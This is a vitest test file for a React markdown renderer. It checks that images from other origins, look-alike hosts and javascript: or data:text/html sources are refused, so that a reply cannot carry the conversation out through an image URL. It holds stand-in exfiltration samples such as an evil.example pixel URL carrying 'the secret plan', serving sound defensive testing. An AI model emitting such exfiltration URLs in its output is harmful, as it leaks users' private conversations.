import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import MarkdownRenderer from './MarkdownRenderer'
import { imageAllowed } from './markdownImages'

const ORIGIN = 'https://weft.example'
const render = (text: string) => renderToStaticMarkup(createElement(MarkdownRenderer, { text }))

describe('markdown images', () => {
  it('never loads an image from another origin: a reply could carry the conversation out in its URL', () => {
    const html = render('Here: ![chart](https://evil.example/pixel.png?q=the+secret+plan)')
    expect(html).not.toContain('<img')
    expect(html).toContain('href="https://evil.example/pixel.png?q=the+secret+plan"')
    expect(html).toContain('>chart</a>')
  })

  it('renders same-origin images', () => {
    expect(render('![logo](/favicon.svg)')).toContain('<img src="/favicon.svg" alt="logo"')
  })

  it('treats protocol-relative and look-alike hosts as other origins', () => {
    for (const src of ['//evil.example/x.png', 'https://weft.example.evil.example/x.png', 'http://weft.example/x.png']) {
      expect(imageAllowed(src, ORIGIN), src).toBe(false)
      expect(render(`![x](${src})`), src).not.toContain('<img')
    }
  })

  it('allows same-origin, data: and blob: images', () => {
    for (const src of ['/a.png', 'a.png', `${ORIGIN}/a.png`, 'data:image/png;base64,iVBORw0KGgo=', `blob:${ORIGIN}/1f0c`]) {
      expect(imageAllowed(src, ORIGIN), src).toBe(true)
    }
    for (const src of ['', 'javascript:alert(1)', 'blob:https://evil.example/1f0c', 'data:text/html,<b>x</b>']) {
      expect(imageAllowed(src, ORIGIN), src).toBe(false)
    }
  })
})
